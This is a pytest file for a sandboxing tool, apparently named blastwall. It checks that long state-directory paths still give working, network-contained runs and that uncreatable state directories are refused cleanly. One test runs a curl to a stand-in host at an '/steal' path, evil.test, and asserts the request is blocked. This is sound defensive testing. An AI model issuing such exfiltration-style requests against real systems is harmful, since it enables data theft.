"""blastwall's own paths come from the user (``XDG_STATE_HOME``): their length and their state never break a run.

A unix socket's address holds 107 bytes.  With a long state directory a
networked run failed ("AF_UNIX path too long"), reported "internal error", or
at one length hung with no output until killed.  Each length must give a
working, contained run; a state directory that cannot be made must give a
clear refusal with a fix, and nothing must run.
"""

from __future__ import annotations

import pytest

from tests.attacks.tiers import tier_run, tiers_for
from tests.conftest import assert_no_traceback, blastwall, kill_gateway, needs_bwrap
from tests.egress.upstreams import Upstream

pytestmark = needs_bwrap


@pytest.fixture
def upstream(scratch):
    up = Upstream(str(scratch))
    yield up
    up.close()


# Every length around the 107 bytes in the process tier; the longest in the tiers that boot slowly.
CASES = [pytest.param(param.values[0], length, marks=param.marks, id=f"{param.id}-{length}")
         for param in tiers_for("never-root-inside")
         for length in ((60, 100, 110, 200, 380) if param.values[0] == "process" else (380,))]


@pytest.mark.parametrize("tier, length", CASES)
def test_long_state_directory_networked_run(tier, length, home, workspace, scratch, upstream, tier_env):
    state = scratch / ("s" * 40)
    while len(str(state)) < length:
        state = state / ("d" * min(200, length - len(str(state))))
    policy = scratch / "policy.toml"
    policy.write_text('[network]\nallow = ["api.test"]\nresolve = { "api.test" = "127.0.0.1" }\n'
                      'trusted_addresses = ["127.0.0.1/32"]\n')
    env = {**tier_env, "XDG_STATE_HOME": str(state)}
    try:
        r = tier_run(tier, f"curl -sS -m 20 http://api.test:{upstream.http_port}/ping; echo; "
                           f"curl -sS -m 5 http://evil.test:{upstream.http_port}/steal; echo rc=$?",
                     home=home, workspace=workspace, env=env, args=["--policy", str(policy)], timeout=300)
    finally:
        kill_gateway(state)
    assert_no_traceback(r)
    assert r.returncode == 0 and "internal error" not in r.stderr, r.stderr
    assert [req[1] for req in upstream.requests] == ["/ping"], (r.stdout, r.stderr)  # Reached, and only it.


@pytest.mark.parametrize("kind", ["unwritable", "a-file", "too-long"])
def test_state_directory_that_cannot_be_made(kind, home, workspace, scratch):
    words = "Can't create blastwall's state directory"
    if kind == "too-long":
        state = scratch / "/".join(["d" * 200] * 3)  # Longer than SQLite opens: refused before anything starts.
        words = "more than the 400 its databases accept"
    elif kind == "unwritable":
        state = "/sys/blastwall-test-state"  # sysfs takes no new directory, not even root's.
    else:
        state = scratch / "file"
        state.write_text("not a directory\n")
        state = state / "state"
    r = blastwall(["run", "--", "touch", "ran"], home=home, cwd=workspace, env={"XDG_STATE_HOME": str(state)})
    assert r.returncode == 125, r.stderr
    assert words in r.stderr and "fix: set XDG_STATE_HOME" in r.stderr
    assert "internal error" not in r.stderr
    assert not (workspace / "ran").exists()
